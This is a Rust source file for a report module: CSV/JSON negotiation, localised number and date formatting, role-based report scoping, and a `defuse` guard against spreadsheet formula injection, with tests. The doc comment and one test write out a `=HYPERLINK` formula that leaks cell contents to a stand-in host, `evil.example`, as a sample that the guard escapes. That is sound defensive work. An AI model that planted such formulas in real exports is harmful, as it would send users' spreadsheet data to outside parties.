//! Management reports: progress between assessment rounds, the PDCA pipeline, and charts.
//! Shared here: who may see which scope, and JSON/CSV negotiation.

pub mod charts;
pub mod pipeline;
pub mod progress;

use actix_web::http::header;
use actix_web::{HttpRequest, HttpResponse};
use serde::Deserialize;
use utoipa::{IntoParams, ToSchema};

use crate::auth::AuthUser;
use crate::db::{self, DbPool};
use crate::domain::locale::Lang;
use crate::domain::roles::Role;
use crate::error::ApiError;
use crate::store::units;

/// Output format of a report.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize, ToSchema)]
#[serde(rename_all = "lowercase")]
pub enum Format {
    Json,
    Csv,
}

/// Field separator of CSV output.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize, ToSchema)]
#[serde(rename_all = "lowercase")]
pub enum Delimiter {
    /// `,` with a decimal point (RFC 4180), the default in English.
    Comma,
    /// `;` with a decimal comma, as spreadsheet software set to German expects; the
    /// default in German.
    Semicolon,
}

#[derive(Debug, Clone, Default, Deserialize, IntoParams)]
#[into_params(parameter_in = Query)]
pub struct FormatParams {
    /// `json` (default) or `csv`; `Accept: text/csv` asks for CSV as well.
    pub format: Option<Format>,
    /// CSV only: `semicolon` (with decimal commas) or `comma`; by default semicolon in
    /// German, comma in English.
    pub delimiter: Option<Delimiter>,
}

/// CSV when `?format=csv`, or when `Accept` names `text/csv` and no `format` is given.
pub fn wants_csv(req: &HttpRequest, params: &FormatParams) -> bool {
    match params.format {
        Some(f) => f == Format::Csv,
        None => req
            .headers()
            .get(header::ACCEPT)
            .and_then(|v| v.to_str().ok())
            .is_some_and(|accept| accept.split(',').any(|part| part.trim().starts_with("text/csv"))),
    }
}

/// A CSV table being written for a spreadsheet: UTF-8 with a byte order mark (so umlauts
/// stay intact), headers and labels in the report's language, in German `;` and decimal
/// commas by default, numbers rounded as a reader wants them and dates a spreadsheet
/// reads as dates (`03.12.2026`, `2026-12-03`).
pub struct Csv {
    writer: csv::Writer<Vec<u8>>,
    decimal_comma: bool,
    lang: Lang,
}

impl Csv {
    /// A table with these columns, each as (English, German) header.
    pub fn new(lang: Lang, delimiter: Option<Delimiter>, header: &[(&str, &str)]) -> Result<Self, ApiError> {
        let delimiter = delimiter.unwrap_or(match lang {
            Lang::De => Delimiter::Semicolon,
            Lang::En => Delimiter::Comma,
        });
        let mut out = Vec::new();
        out.extend_from_slice("\u{feff}".as_bytes());
        let writer = csv::WriterBuilder::new()
            .delimiter(match delimiter {
                Delimiter::Comma => b',',
                Delimiter::Semicolon => b';',
            })
            .from_writer(out);
        let mut me = Self {
            writer,
            decimal_comma: delimiter == Delimiter::Semicolon,
            lang,
        };
        let names: Vec<String> = header.iter().map(|(en, de)| me.text(en, de)).collect();
        me.row(names)?;
        Ok(me)
    }

    /// The text in the table's language.
    pub fn text(&self, en: &str, de: &str) -> String {
        match self.lang {
            Lang::De => de.to_owned(),
            Lang::En => en.to_owned(),
        }
    }

    pub fn lang(&self) -> Lang {
        self.lang
    }

    fn decimal(&self, s: String) -> String {
        if self.decimal_comma { s.replace('.', ",") } else { s }
    }

    /// A number with `decimals` places; empty for `None` (and for what is not finite).
    pub fn fixed(&self, v: Option<f64>, decimals: usize) -> String {
        match v {
            Some(v) if v.is_finite() => self.decimal(format!("{v:.decimals$}")),
            _ => String::new(),
        }
    }

    /// A number to `digits` significant digits (p-values: 0.0000123, 0.0412).
    pub fn significant(&self, v: Option<f64>, digits: i32) -> String {
        match v {
            Some(0.0) => "0".into(),
            Some(v) if v.is_finite() => {
                let magnitude = v.abs().log10().floor() as i32;
                let decimals = usize::try_from((digits - 1 - magnitude).clamp(0, 15)).unwrap_or(0);
                self.decimal(format!("{v:.decimals$}"))
            }
            _ => String::new(),
        }
    }

    /// A share (0–1) as a percentage with one decimal.
    pub fn percent(&self, v: Option<f64>) -> String {
        self.fixed(v.map(|v| v * 100.0), 1)
    }

    pub fn int(v: Option<i64>) -> String {
        v.map(|v| v.to_string()).unwrap_or_default()
    }

    /// A day as spreadsheets read it in the table's language (UTC).
    pub fn date(&self, t: Option<chrono::DateTime<chrono::Utc>>) -> String {
        match (t, self.lang) {
            (Some(t), Lang::De) => t.format("%d.%m.%Y").to_string(),
            (Some(t), Lang::En) => t.format("%Y-%m-%d").to_string(),
            (None, _) => String::new(),
        }
    }

    /// Writes one row; every cell passes `defuse` first.
    pub fn row(&mut self, cells: impl IntoIterator<Item = String>) -> Result<(), ApiError> {
        self.writer
            .write_record(cells.into_iter().map(defuse).collect::<Vec<_>>())
            .map_err(ApiError::internal)
    }

    pub fn into_response(self, filename: &str) -> Result<HttpResponse, ApiError> {
        let lang = self.lang;
        let bytes = self.writer.into_inner().map_err(ApiError::internal)?;
        Ok(HttpResponse::Ok()
            .content_type("text/csv; charset=utf-8")
            .insert_header((header::CONTENT_LANGUAGE, lang.as_str()))
            .insert_header((
                header::CONTENT_DISPOSITION,
                format!("attachment; filename=\"{filename}\""),
            ))
            .body(bytes))
    }
}

/// A cell a spreadsheet would read as a formula (it starts with `=`, `+`, `-`, `@`, a tab
/// or a carriage return) gets a leading apostrophe, so it is shown as the text it is: an
/// idea titled `=HYPERLINK("http://evil.example/?"&B2)` must not send the sheet's other
/// cells anywhere when the council opens the export. Plain numbers (`-0,34`) stay numbers.
pub fn defuse(cell: String) -> String {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let number = cell.replace(',', ".").parse::<f64>().is_ok_and(f64::is_finite);
    if risky && !number { format!("'{cell}") } else { cell }
}

/// Waits for `wanted` free report slots, or all there are (see `AppState::report_slots`).
pub async fn report_slot(
    state: &crate::state::AppState,
    wanted: u32,
) -> Result<tokio::sync::SemaphorePermit<'_>, ApiError> {
    state
        .report_slots
        .acquire(wanted)
        .await
        .map_err(|_| ApiError::Unavailable("the service is shutting down".into()))
}

/// The unit a report covers, after the role check: managers and admins may ask for the
/// whole organisation (`None`) or any unit; leads for their own unit or one below it
/// (their own unit when none is named). Employees see no reports.
pub async fn report_scope(pool: &DbPool, caller: &AuthUser, unit: Option<String>) -> Result<Option<String>, ApiError> {
    caller.require(Role::Lead)?;
    let unit = unit.filter(|u| !u.trim().is_empty());
    let is_manager = caller.is(Role::Manager);
    if is_manager && unit.is_none() {
        return Ok(None);
    }
    let own = caller.unit_id.clone();
    if !is_manager && own.is_none() {
        return Err(ApiError::forbidden(
            "reports for leads cover their unit, and you belong to none",
        ));
    }
    let requested = unit.or(own.clone());
    let org = caller.org_id.clone();
    db::run(pool, move |conn| {
        let Some(requested) = requested else {
            return Ok(None);
        };
        units::require_in_org(conn, &org, &requested, "unit")?;
        if !is_manager {
            let tree = units::tree(conn, &org)?;
            let mine = own.as_deref().unwrap_or_default();
            if !tree.is_within(&requested, mine) {
                return Err(ApiError::forbidden(
                    "leads see reports for their own unit and the units below it",
                ));
            }
        }
        Ok(Some(requested))
    })
    .await
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn numbers_and_dates_as_spreadsheets_read_them() {
        let de = Csv::new(Lang::De, None, &[("a", "A")]).unwrap();
        assert_eq!(de.fixed(Some(3.4557823129251695), 2), "3,46");
        assert_eq!(de.significant(Some(0.000012345), 3), "0,0000123");
        assert_eq!(de.significant(Some(0.04123), 3), "0,0412");
        assert_eq!(de.significant(Some(0.5), 3), "0,500");
        assert_eq!(de.percent(Some(0.7567)), "75,7");
        let t = chrono::DateTime::parse_from_rfc3339("2026-12-03T14:05:00Z")
            .unwrap()
            .to_utc();
        assert_eq!(de.date(Some(t)), "03.12.2026");
        let en = Csv::new(Lang::En, None, &[("a", "A")]).unwrap();
        assert_eq!(en.fixed(Some(-0.126), 2), "-0.13");
        assert_eq!(en.date(Some(t)), "2026-12-03");
        assert_eq!(en.fixed(Some(f64::NAN), 2), "");
        let bytes = de.writer.into_inner().unwrap();
        assert_eq!(String::from_utf8(bytes).unwrap(), "\u{feff}A\n");
    }

    #[test]
    fn formulas_are_defused_and_numbers_are_not() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Details\")",
            "+SUM(A1:A9)",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "-inf",
        ] {
            assert_eq!(defuse(formula.to_owned()), format!("'{formula}"));
        }
        for plain in ["-0.34", "-0,34", "+1", "Bürgeramt", "", "3,4557"] {
            assert_eq!(defuse(plain.to_owned()), plain);
        }
    }
}
